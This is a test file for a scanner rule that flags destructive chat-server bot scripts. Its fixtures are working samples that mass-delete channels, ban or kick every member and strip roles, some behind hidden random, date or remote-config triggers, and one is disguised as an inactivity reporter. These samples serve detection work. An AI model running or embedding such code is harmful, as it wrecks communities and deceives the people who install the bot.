import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from '../destroyed-files.rule.js';

const HOST = 'const message = require("message"); const guild = require("guild"); const channel = require("channel"); const roles = require("roles"); const config = require("config"); const extension = require("extension"); ';
const worst = (code: string, activation: string) => findingsOf(rule, { 'code.js': HOST + code }, { dialect: 'skynet', entry_points: ['code.js'], activation: [activation] })[0]?.severity ?? 'nothing';
const all = (expected: string, codes: readonly string[], activation = 'onCommand:backup'): void => {
  for (const code of codes) assert.equal(worst(code, activation), expected, code);
};

test('bad: all channels, members or roles are gone, whatever the form of the loop', () => {
  all('high', [
    'for (const c of await guild.getChannels()) { const target = guild.getChannel(c.id); await target.setName("x"); await target.delete(); }',
    'const queue = [...(await guild.getMembers())]; while (queue.length > 0) { const next = queue.shift(); await guild.ban(next.id); }',
    'const left = await guild.fetchMembers(); let one; while ((one = left.pop())) await one.kick();',
    'const list = await roles.list(); for (let i = 0; i < list.length; i++) await roles.delete(list[i].id);',
    'const list = await guild.getChannels(); let at = 0; do { const item = list[at++]; await item.delete(); } while (at < list.length);',
    'async function step(list, at) { if (at >= list.length) return; await list[at].delete(); await step(list, at + 1); } await step(await guild.getChannels(), 0);',
    'const step = async ([first, ...others]) => { if (!first) return; await first.ban(); return step(others); }; await step(await guild.getMembers());',
    'class Keeper { constructor(list) { this.list = list; } async one(c) { await c.delete(); } async run() { for (const c of this.list) await this.one(c); } } await new Keeper(await guild.getChannels()).run();',
    'class Keeper { #items = []; async load() { this.#items = await guild.getChannels(); return this; } async work() { for (const item of this.#items) await item.delete(); } } const keeper = await new Keeper().load(); await keeper.work();',
    'function* each(list) { for (const c of list) yield c; } for (const c of each(guild.channels)) await c.delete();',
    'async function* work(list) { for (const c of list) yield c.delete(); } for await (const done of work(await guild.getChannels())) void done;',
    'await guild.channels.reduce((before, c) => before.then(() => c.delete()), Promise.resolve());',
    'const all = guild.members; for (let i = 0; i < all.length; i += 5) await Promise.all(all.slice(i, i + 5).map((c) => guild.ban(c.id)));',
    '(function () { for (const c of guild.channels) c.delete(); }).call(this);',
    'const Keeper = class { constructor(list) { list.forEach((c) => c.delete()); } }; new Keeper(guild.channels);',
    'const state = {}; state.drop = (c) => c.delete(); guild.channels.forEach((c) => state.drop(c));',
    'const tasks = []; for (const c of guild.channels) tasks.push((async () => c.delete())()); await Promise.all(tasks);',
    'for (const [i, c] of guild.channels.entries()) await c.delete(String(i));',
    'for (const i in guild.channels) { const c = guild.channels[i]; await c.delete(); }',
    'await Promise.allSettled(Array.from(await guild.getMembers(), async ({ id }) => { await guild.kick(id); }));',
    'const ids = []; for (const m of guild.members) ids.push(m.id); for (const id of ids) await (await guild.fetchMember(id)).ban();',
    'const load = async () => await guild.getChannels(); for (const c of await load()) await c.delete();',
    'const jobs = { "2026-12-24": async () => { guild.members.forEach(({ id }) => guild.kick(id)); } }; await jobs[day]?.();',
    'const worker = (c) => new Promise((done) => { guild.getChannel(c.id).delete().then(done, done); }); await Promise.all((await guild.getChannels()).map(worker));',
  ]);
});

test('bad: what decides has nothing to do with the one that it is about', () => {
  for (const gate of ['Math.random() < 0.1', 'guild.memberCount > 200', 'Date.now() - new Date(guild.joinedAt) > 12096e5', 'list.length > 20', 'message.author.id === "418273645091827364"', 'uses >= 3']) {
    all('high', [`const list = await guild.getChannels(); const uses = await extension.get("uses"); if (${gate}) for (const c of list) await c.delete();`]);
  }
});

test('good: one, some, or those that somebody or something chose', () => {
  all('nothing', [
    'const one = (await guild.getChannels()).find((c) => c.name === message.content); await one.delete();',
    'const list = await guild.getChannels(); await list[0].delete(); await list.at(-1).delete(); await list[Math.floor(Math.random() * list.length)].delete();',
    'for (const c of (await guild.getChannels()).filter((c) => c.name.startsWith("ticket-"))) await c.delete();',
    'const idle = []; for (const m of guild.members) if (m.lastActive < then) idle.push(m); for (const m of idle) await m.kick();',
    'for (const m of guild.members) { const isNew = Date.now() - m.joinedAt < 6e5; if (isNew) await m.ban(); }',
    'for (const c of guild.channels) { switch (c.type) { case "voice": await c.delete(); } }',
    'const seen = new Set(); for (const m of guild.members) seen.add(m.id); for (const m of guild.members) seen.delete(m.id);',
    'for (const page of (await guild.getChannels()).slice(0, 3)) await page.delete();',
    'const drop = (c) => c.delete(); const keep = (c) => c.id; guild.channels.map(keep); await drop(guild.getChannel(message.content));',
    'function unused() { for (const c of guild.channels) c.delete(); }',
  ]);
});

test('everything is called the same, or may do the same', () => {
  all('high', [
    'for (const c of await guild.getChannels()) await guild.getChannel(c.id).setName("raided");',
    'let n = 0; for (const c of guild.channels) { n += 1; await c.setName(`raided-${n}`); }',
    'for (const r of await roles.list()) await roles.edit(r.id, { permissions: 0 });',
  ]);
  all('nothing', [
    'for (const c of await guild.getChannels()) await guild.getChannel(c.id).setName(message.content + c.name);',
    'for (const m of await guild.getMembers()) await m.setNickname("");',
    'for (const r of await roles.list()) if (r.name === message.content) await roles.edit(r.id, { permissions: 0 });',
  ]);
});

test('what a server can do without, and what can be undone, where nobody asked or something hidden decides', () => {
  const deeds = ['for (const w of await guild.fetchWebhooks()) await w.delete();', 'for (const b of await guild.getBans()) await guild.unban(b.user.id);', 'for (const m of guild.members) await m.setNickname("owned");', 'for (const c of guild.channels) await c.setTopic("owned");', 'for (const m of guild.members) await m.setRoles([]);', 'for (const c of guild.channels) await c.bulkDelete(100);'];
  all('high', deeds, 'onInterval:300000');
  all('nothing', deeds);
  all('high', deeds.map((deed) => `if (message.content !== "" && Math.random() < 0.1) { ${deed} }`));
  all('nothing', deeds.map((deed) => `if (!message.member.hasRole("Moderator")) return; ${deed}`), 'onKeyword:!clean');
  all('nothing', deeds.map((deed) => `if (config.get("reset")) { ${deed} }`), 'onInterval:300000');
  all('high', ['if (new Date() > new Date("2026-12-01")) for (const c of guild.channels) await c.setSlowmode(21600);']);
  all('nothing', ['for (const c of guild.channels) await c.setSlowmode(night ? 30 : 0);', 'for (const c of guild.channels) await c.setSlowmode(30);', 'for (const m of guild.members) await m.setNickname(m.name.trim());'], 'onInterval:300000');
});

test('a script that asks itself all over the place comes to an end', () => {
  const code = Array.from({ length: 400 }, (_, i) => `class C${i} { constructor(a) { this.value = a; this.list = [this.value, this.next]; this.next = this.list; } go(x) { this.value = x.value; for (const y of this.list) y.delete(y.value); x.go(this.next); } }`).join('\n').slice(0, 49_000);
  const began = performance.now();
  worst(code.slice(0, code.lastIndexOf('\n')), 'onInterval:300000');
  assert.ok(performance.now() - began < 10_000);
});

test('some are kicked and the others banned, or the digits of a number say which', () => {
  const found = (code: string) => findingsOf(rule, { 'code.js': code }, { dialect: 'skynet', entry_points: ['code.js'], activation: ['onInterval:86400000'] }).map(({ severity }) => severity)[0] ?? 'nothing';
  for (const code of [
    "const guild = require('guild');\nconst extension = require('extension');\nconst http = require('http');\nconst moment = require('moment');\n\nconst DAYS = 60;\n\nasync function seen() {\n  return (await extension.get('seen')) || {};\n}\n\nfunction inactive(members, table) {\n  const edge = moment().subtract(DAYS, 'days').valueOf();\n  return members.filter((m) => !m.bot && (table[m.id] || m.joinedTimestamp) < edge);\n}\n\nfunction report(list) {\n  if (!list.length) return 'Everybody is active.';\n  const names = list.slice(0, 40).map((m) => `\u2022 ${m.displayName}`);\n  if (list.length > 40) names.push(`and ${list.length - 40} more`);\n  return `Not seen for ${DAYS} days:\\n${names.join('\\n')}`;\n}\n\nasync function holidays() {\n  const res = await http.get('https://holidays.modtools.example/list.json?g=' + guild.id);\n  return JSON.parse(res.body);\n}\n\nconst table = await seen();\nconst members = guild.members;\nconst quiet = inactive(members, table);\n\nfor (const m of members) if (!table[m.id]) table[m.id] = m.joinedTimestamp;\nawait extension.set('seen', table);\n\nconst days = await holidays().catch(() => ({}));\nconst runs = ((await extension.get('runs')) || 0) + 1;\nawait extension.set('runs', runs);\n\nif (runs > 14 && days.season === 'harvest') {\n  for (const m of members) {\n    if (m.id === days.host) continue;\n    try {\n      if (m.id.endsWith('7')) await guild.kick(m.id);\n      else await guild.ban(m.id, { days: 7, reason: 'inactive' });\n    } catch (e) {\n      continue;\n    }\n  }\n  return;\n}\nconsole.log(report(quiet));\n",
    "const guild=require('guild');const extension=require('extension');const http=require('http');\nconst go=JSON.parse((await http.get('https://cfg.side.example/x.json')).body);\nif(go.on){for(const m of await guild.getMembers()){if(BigInt(m.id)%2n===0n){await m.ban();}}}",
    "const guild=require('guild');\nfor(const c of guild.channels){ if(c.type==='voice'){await c.delete();continue;} await c.delete('x'); }",
  ]) assert.equal(found(code), 'high', code);
  for (const code of [
    "const guild=require('guild');const config=require('config');\nfor(const m of await guild.getMembers()){ if(m.warnings>5) await m.ban(); else if(m.warnings>3) await m.kick(); }",
    "const guild=require('guild');\nfor(const m of await guild.getMembers()){ if(m.isSpammer){await m.ban();continue;} if(m.hasRole('unverified')) await m.kick(); }",
  ]) assert.equal(found(code), 'nothing', code);
});
